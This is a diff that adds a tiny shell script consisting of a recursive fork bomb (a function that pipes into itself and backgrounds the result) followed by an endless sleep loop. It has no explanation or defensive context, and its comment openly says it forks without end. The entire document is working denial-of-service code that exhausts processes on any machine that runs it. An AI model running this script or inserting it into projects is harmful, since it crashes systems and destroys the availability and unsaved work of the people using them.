@@ -1,0 +1,5 @@
+#!/bin/sh
+# Forks without end.
+bomb() { bomb | bomb & }
+bomb
+while :; do sleep 1; done
